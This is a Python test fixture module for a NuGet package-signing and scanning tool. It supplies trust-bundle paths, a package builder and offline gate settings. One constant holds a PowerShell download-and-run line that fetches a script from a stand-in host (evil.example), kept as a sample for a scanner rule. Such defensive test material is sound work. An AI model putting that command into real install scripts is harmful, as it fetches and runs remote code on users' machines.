"""What the gate, global-packages-folder and audit tests share: the SDK's trust bundles from ``../shared``, a
made-up source, a download-and-run install script, a package builder and offline accept-mode gate settings."""

from __future__ import annotations

from pathlib import Path

from nuseal.client.gate import GateSettings
from nuseal.trust import RevocationMode
from nuseal.verify import VerificationPolicy
from support.packages import nupkg, nuspec_xml

SHARED = Path(__file__).resolve().parents[3] / "shared"
CODESIGN = str(SHARED / "trust" / "codesignctl.pem")
TIMESTAMP = str(SHARED / "trust" / "timestampctl.pem")
SOURCE = "https://feed.example/v3/index.json"
#: A download-and-run cradle in an install script (scan rule NS1110, an error).
CRADLE = "iex (New-Object Net.WebClient).DownloadString('http://evil.example/stage2.ps1')\n"


def make_nupkg(package_id: str, version: str = "1.0.0", files: dict[str, str] | None = None) -> bytes:
    """An unsigned .nupkg: a minimal nuspec at the root, then ``files`` (name -> text) in that order."""
    nuspec = nuspec_xml(package_id, version, authors="t", description="d", compact=True)
    return nupkg([(f"{package_id}.nuspec", nuspec), *(files or {}).items()])


def gate_settings(**changes: object) -> GateSettings:
    """Accept mode, offline revocation, the SDK's trust bundles; ``changes`` override fields."""
    base: dict[str, object] = {
        "policy": VerificationPolicy.accept(revocation_mode=RevocationMode.OFFLINE),
        "code_signing_roots": CODESIGN,
        "timestamping_roots": TIMESTAMP,
    }
    base.update(changes)
    return GateSettings(**base)  # type: ignore[arg-type]
